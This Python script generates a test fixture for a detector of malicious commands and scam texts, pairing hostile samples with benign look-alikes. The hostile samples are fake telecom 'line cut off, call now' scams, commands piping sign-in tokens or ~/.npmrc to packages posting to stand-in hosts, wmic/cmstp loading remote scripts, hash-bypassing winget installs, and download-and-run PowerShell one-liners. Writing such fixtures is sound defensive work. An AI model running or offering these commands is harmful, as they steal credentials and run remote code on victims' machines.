"""Writes tests/data/cases/b23fix.jsonl: the kinds of text BLIND-23's misses stand for (helper
"b23fix", 2026-12-08), written here from general knowledge of such texts, each beside look-alikes
on the other side that must keep their level.

    python tests/data/cases/make_b23fix.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid), phone numbers are
made-up 555 ones; no blind set's text, lure collection or other detector's fixture is copied.
Each line is {id, text, expect, technique, platform, source, target}.

By kind:

- `line-lock-call`: the phone or internet company's line, router or connection "to be cut today
  at 18:00" because of malware, abuse, a virus or hacking on it, and a number to call to unlock
  it, in en de fr es it nl pt pl (PG-SCAM-LINE-LOCK-CALL, 41-scam-calls.yaml): flagged from
  any page and bare. A maintenance notice, a dunning letter (a bill, no malware), an abuse
  notice that sends you to the customer centre or a site, an if-clause and a text about such
  calls stay quiet.
- `token-to-package`: a sign-in token printed by its own tool (`gh auth token`, `gcloud auth
  print-access-token`, `az account get-access-token`, a credentials file) put on the command
  line of a package a runner fetches and runs now (npx, pnpm dlx, bunx, uvx, pipx run) with a
  web address beside it (PG-B23-TOKEN-TO-PACKAGE, 57-b23-lures.yaml): blocked. The token used
  with its own tool, a package run with no token, a token exported for later stay quiet.
- `lolbin-remote-script`: wmic's `/format:` given a stylesheet from a web address or a share,
  cmstp given a profile `.inf` from one (PG-LOL-WMIC-REMOTE-XSL, PG-LOL-CMSTP-REMOTE-INF,
  resources/lolbins.yaml): blocked bare. wmic's built-in formats and a profile from the
  admin's own disk stay as they were.
- `winget-no-hash-remote`: winget with `--ignore-security-hash` and a web address or a share
  handed to one of its switches (PG-LOL-WINGET-REMOTE-MANIFEST): a warning bare, blocked in the
  Run box. The hash override alone on a catalogue package, and a company's own source added,
  stay quiet.
- `pipeline-folder-run`: a temporary or public folder handed down a pipeline (`$env:TEMP | % {
  iwr … -OutFile "$_\\d.exe"; & "$_\\d.exe" }`) or held in a variable, a program downloaded
  there and started (PG-WIN-PS-DOWNLOAD-THEN-RUN, PG-WIN-START-FROM-TEMP): blocked. A data
  file downloaded there and read, and a program of Program Files started after a download,
  stay as they were.
- `labelled-query`: an EQL query on one line, or any query behind a short label on its first
  line ("Elastic rule idea: process where … == \"conhost.exe\" …", "Sentinel query:
  DeviceProcessEvents | …"): every line belongs to a query (app/detection/queries.py), so the
  commands it names are strings it matches. A command behind such a label, or after a query's
  line, stays blocked.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b23fix.jsonl")
RUN = "run_dialog"
TERMINAL = "terminal"
UNKNOWN = "unknown"
HOTEL = "https://lakeside-rooms.example/booking/confirm"
RECIPES = "https://family-recipes.example/soups/leek"
WIKI = "https://wiki.corp.example/it/network"
FORUM = "https://model-trains.example/forum/t/8812"
LURE_PAGE = "https://captcha-check.invalid/verify"
DOCS = "https://docs.corp.example/admin/windows"


def line_lock(book: Book) -> None:
    tech = "line-lock-call"
    for text in (
        "Your BT broadband line will be cut off tonight at 9pm because hackers are using your "
        "router to send spam. Call our security desk on 0800 555 0148 to keep your service.",
        "Ihr Vodafone-Anschluss wird heute um 20:00 Uhr abgeschaltet, da über Ihren Router "
        "Schadsoftware verbreitet wird. Rufen Sie sofort 0800 555 4471 an, um die Sperre "
        "aufzuheben.",
        "Ihre DSL-Leitung wird in 2 Stunden gesperrt: Missbrauch durch einen Trojaner "
        "festgestellt. Zur Freischaltung rufen Sie 0800 555 2019 an.",
        "Votre ligne Orange sera suspendue aujourd'hui à 17h suite à un piratage de votre box. "
        "Pour la réactiver appelez le 09 70 55 51 23.",
        "Su línea de fibra será bloqueada en 2 horas por uso indebido: detectamos malware en su "
        "router. Llame al 900 555 214 para desbloquearla.",
        "Uw internetaansluiting wordt vandaag om 20.00 uur afgesloten wegens misbruik door een "
        "virus op uw modem. Bel direct 0800 555 0192.",
        "A sua linha será desligada hoje às 18h por uso indevido: o seu router está infetado com "
        "malware. Ligue 800 555 123 para desbloquear.",
        "La sua linea sarà sospesa oggi alle 19:00 per abuso: un virus sul suo router invia "
        "spam. Chiami subito il numero verde 800 555 617.",
        "Twoje łącze zostanie zablokowane dziś o 18:00 z powodu wirusa na routerze. Zadzwoń pod "
        "numer 800 555 321, aby je odblokować.",
    ):
        for page in (HOTEL, RECIPES):
            book.add(tech, text, "flagged", "any", UNKNOWN, page)
        book.add(tech, text, "flagged", "any", UNKNOWN, None)
    for text in (
        # maintenance: no cause a scam gives
        "Ihr Anschluss wird am 12.03. zwischen 02:00 und 04:00 Uhr wegen Wartungsarbeiten kurz "
        "unterbrochen. Bei Fragen erreichen Sie uns unter 0800 330 1000.",
        "Planned works: your broadband line will be disconnected on Tuesday between 1am and 5am. "
        "Questions? Call 0800 555 0100.",
        # a bill, no malware
        "Your line will be suspended on 14 March for an unpaid balance of £42.10. Call 0800 555 "
        "0100 to pay.",
        # the provider's real abuse notice sends you to its site or customer centre
        "Wir haben Schadsoftware-Aktivität an Ihrem Anschluss festgestellt. Ihr Anschluss wird "
        "vorsorglich gesperrt. Hinweise finden Sie unter www.telekom.de/abuse oder im "
        "Kundencenter; Hotline 0800 330 1000.",
        # an if-clause in a help page
        "Falls Ihr Router mit Schadsoftware infiziert ist, kann Ihr Anschluss vorübergehend "
        "gesperrt werden. Hilfe: 0800 330 1000.",
        # about such calls
        "Got a call saying my internet line would be cut off because of a virus on my router and "
        "to call 0800 555 0199 to unlock it. Classic scam, never call these numbers back.",
    ):
        book.add(tech, text, "not_flagged", "any", UNKNOWN, WIKI)


def token_to_package(book: Book) -> None:
    tech = "token-to-package"
    for text in (
        'pnpm dlx repo-audit-pro --gh-token "$(gh auth token)" --upload https://audit-hub.test/u',
        "bunx ci-speedup --key `gcloud auth print-access-token` --endpoint "
        "https://speedup-ci.test/k",
        "uvx cloud-cost-scan --token $(az account get-access-token --query accessToken -o tsv) "
        "--send https://costs-report.test/in",
        'npx --yes npm-publish-helper --npmrc "$(cat ~/.npmrc)" --callback '
        "https://publish-check.test/cb",
        "npx -y workflow-doctor@latest --auth=$(gh auth token) --out https://wf-doctor.test/r",
        "pipx run gh-stars-export --token $(gh auth token) --webhook https://stars-sync.test/h",
    ):
        book.add(tech, text, "malicious", "any", TERMINAL, FORUM)
        book.add(tech, text, "malicious", "any", UNKNOWN, None)
    for text in (
        "gh auth token | docker login ghcr.io -u octocat --password-stdin",
        'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" '
        "https://us-central1-aiplatform.googleapis.com/v1/projects/p/locations/us-central1/"
        "endpoints",
        "export GH_TOKEN=$(gh auth token); npx -y serve ./dist",
        "npx -y create-next-app@latest my-app --example "
        "https://github.com/vercel/next.js/tree/canary/examples/blog",
        "aws ecr get-login-password --region eu-west-1 | docker login --username AWS "
        "--password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
    ):
        book.add(tech, text, "not_flagged", "any", TERMINAL, None)


def lolbin_remote(book: Book) -> None:
    tech = "lolbin-remote-script"
    for text in (
        'wmic os get /format:"https://style-cdn.test/s/f.xsl"',
        "wmic process list brief /FORMAT:\\\\files.example.test@SSL\\x\\p.xsl",
        "wmic.exe computersystem get name /format:https://198.51.100.23/t.xsl",
        "cmstp.exe /ni /s https://vpn-profile.test/k/p.inf",
        "cmstp /s /ns \\\\198.51.100.8\\pub\\vpn.inf",
        "cmstp.exe /au https://conn-setup.test/corp.inf",
    ):
        book.add(tech, text, "malicious", "windows", RUN, None)
        book.add(tech, text, "malicious", "windows", UNKNOWN, None)
    for text in (
        "wmic os get caption /format:list",
        "wmic product get name,version /format:csv > C:\\inventory\\apps.csv",
        "wmic qfe list /format:htable > hotfix.html",
    ):
        book.add(tech, text, "not_flagged", "windows", TERMINAL, DOCS)
    # a profile from the admin's own disk: the older warning, not a block
    book.add(
        tech,
        "cmstp.exe /s C:\\Profiles\\CorpVPN\\corpvpn.inf",
        "suspicious",
        "windows",
        UNKNOWN,
        None,
    )


def winget_no_hash(book: Book) -> None:
    tech = "winget-no-hash-remote"
    for text in (
        "winget install --ignore-security-hash --source-url https://pkg-fastlane.test/f/w PdfTools",
        "winget upgrade -s https://pkg-relay.test/api --ignore-security-hash --all",
        "winget install --ignore-security-hash --manifest-url=https://198.51.100.40/m.yaml "
        "Contoso.Helper",
        "winget.exe install -e --id Media.Codec --ignore-security-hash --source "
        "\\\\files.example.test@SSL\\w",
        "winget install --source-url https://pkg-edge.test/src DriverKit --ignore-security-hash "
        "--silent",
    ):
        book.add(tech, text, "malicious", "windows", RUN, None)
        book.add(tech, text, "flagged", "windows", UNKNOWN, None)
    for text in (
        "winget install --id Git.Git -e --ignore-security-hash",
        "winget source add --name corp https://winget.corp.example/api",
        "winget install --id Microsoft.PowerToys -e --source winget",
    ):
        book.add(tech, text, "not_flagged", "windows", TERMINAL, DOCS)


def pipeline_folder(book: Book) -> None:
    tech = "pipeline-folder-run"
    for text in (
        "$env:APPDATA | ForEach-Object { Invoke-WebRequest https://codec-pack.test/c.exe "
        '-OutFile "$_\\c.exe"; & "$_\\c.exe" }',
        '"$env:PUBLIC" | % { irm https://upd-check.test/u.exe -OutFile "$PSItem\\u.exe"; & '
        '"$PSItem\\u.exe" }',
        '$env:LOCALAPPDATA | % { iwr https://198.51.100.77/p.exe -OutFile "$_\\p.exe"; '
        'Start-Process "$_\\p.exe" }',
        '$env:TMP | foreach { iwr https://sound-fix.test/a.exe -OutFile "$_\\a.exe"; & '
        '"$_\\a.exe" /verysilent }',
        '$d=$env:LOCALAPPDATA; iwr https://viewer-get.test/f.exe -OutFile "$d\\f.exe"; & '
        '"$d\\f.exe" /quiet',
    ):
        book.add(tech, text, "malicious", "windows", TERMINAL, FORUM)
        book.add(tech, text, "malicious", "windows", UNKNOWN, None)
    for text in (
        '$env:TEMP | % { iwr https://example.org/data.csv -OutFile "$_\\data.csv"; Import-Csv '
        '"$_\\data.csv" | Select -First 5 }',
        'Invoke-WebRequest https://example.org/report.json -OutFile "$out\\r.json"; & '
        '"$env:ProgramFiles\\7-Zip\\7z.exe" a backup.7z "$out"',
        "$env:TEMP | % { Get-ChildItem $_ -Filter *.log | Remove-Item }",
    ):
        book.add(tech, text, "not_flagged", "windows", TERMINAL, DOCS)


def labelled_query(book: Book) -> None:
    tech = "labelled-query"
    for text in (
        'Elastic idea: process where process.parent.name == "explorer.exe" and process.name == '
        '"conhost.exe" and process.args == "--headless"',
        'process where process.name == "mshta.exe" and process.args : "http*"',
        'Hunting idea: process where process.name == "rundll32.exe" and process.command_line : '
        '"*DavWWWRoot*"',
        'Detection note: registry where registry.path : "*\\RunMRU\\*" and '
        'registry.data.strings : "*powershell*"',
        'Sentinel query: DeviceProcessEvents | where ProcessCommandLine has "conhost.exe '
        '--headless"',
        'EQL (draft): process where process.name == "powershell.exe" and process.args : '
        '("-enc", "-w", "hidden")',
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, WIKI)
    # a command behind the label, or after a query's line, still runs
    for text in (
        'Elastic rule idea: conhost.exe --headless powershell -c "iwr '
        'https://x-stage.test/a | iex"',
        'process where process.name == "conhost.exe"; conhost.exe --headless powershell -c '
        "iwr https://x-stage.test/a|iex",
        'Quick fix: conhost.exe --headless powershell -w h -c "irm https://x-stage.test/p | iex"',
    ):
        book.add(tech, text, "malicious", "windows", UNKNOWN, None)


def build() -> list[dict[str, str]]:
    book = Book("b23f")
    line_lock(book)
    token_to_package(book)
    lolbin_remote(book)
    winget_no_hash(book)
    pipeline_folder(book)
    labelled_query(book)
    return book.cases


CASES = build()

if __name__ == "__main__":
    write(OUT, CASES)
